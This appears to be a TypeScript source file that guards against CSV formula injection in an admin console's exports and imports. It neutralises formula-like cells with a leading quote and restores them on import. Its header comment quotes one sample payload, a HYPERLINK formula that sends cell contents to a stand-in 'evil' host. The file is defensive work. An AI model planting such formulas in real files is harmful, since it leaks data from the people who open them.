// EXPORT-08 / IMPORT-08: CSV formula injection. A spreadsheet opening a CSV file runs any cell that starts with
// `=`, `+`, `-` or `@` (or a tab / carriage return before one) as a formula, so a user name such as
// `=HYPERLINK("http://evil/?"&A1)` exported by the server becomes a live formula on the admin's machine. The
// platform's server writes cells as they are; the console neutralises the file it saves, as OWASP advises: such a
// cell gets a leading `'`, which spreadsheets read as "this is text" and do not show. A cell that is a plain number
// (`-5`, `+3.5`) is left alone: a spreadsheet reads it as that number and runs nothing, and quoting it would turn
// numbers into text. Importing reverses it: a value the export neutralised loses its `'` again, so export → import
// gives back the same data (through the platform's import too, which hands the `'` back as `"`).

const TRIGGER = /^[=+\-@\t\r]/
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/

/** Whether a spreadsheet could read the cell as a formula (leading spaces are skipped as spreadsheets do). */
function isFormulaLike(cell: string): boolean {
  const s = cell.replace(/^ +/, '')
  return TRIGGER.test(s) && !PLAIN_NUMBER.test(s.trim())
}

/** A cell as it is safe to write into a CSV file. */
export function neutraliseCell(cell: string): string {
  return isFormulaLike(cell) ? `'${cell}` : cell
}

/**
 * The value behind a neutralised cell (a `'` followed by what would have been a formula); other text as it is. The
 * platform's import turns every `'` of a cell into `"`, so a `"` there stands for the added quote too.
 */
export function restoreCell(cell: string): string {
  return (cell.startsWith("'") || cell.startsWith('"')) && isFormulaLike(cell.slice(1)) ? cell.slice(1) : cell
}

/** An imported row (the server's reading of one file row) with its text cells restored. */
export function restoreRow(row: Readonly<Record<string, unknown>>): Record<string, unknown> {
  const out: Record<string, unknown> = {}
  for (const [k, v] of Object.entries(row)) out[k] = typeof v === 'string' ? restoreCell(v) : v
  return out
}

/** A CSV file's text with every cell neutralised (the byte-order mark and CRLF rows kept). */
export async function neutraliseCsv(text: string): Promise<string> {
  const Papa = (await import('papaparse')).default
  const bom = text.startsWith('\ufeff') ? '\ufeff' : ''
  const body = bom ? text.slice(1) : text
  const parsed = Papa.parse<string[]>(body, { skipEmptyLines: false })
  let rows = parsed.data
  // Papa reads the last line ending as one more empty row; the file ends with a line ending again below
  if (rows.length && rows[rows.length - 1].length === 1 && rows[rows.length - 1][0] === '') rows = rows.slice(0, -1)
  const newline = body.includes('\r\n') || !body.includes('\n') ? '\r\n' : '\n'
  const safe = rows.map((r) => r.map(neutraliseCell))
  return bom + Papa.unparse(safe, { newline }) + (body.endsWith('\n') ? newline : '')
}
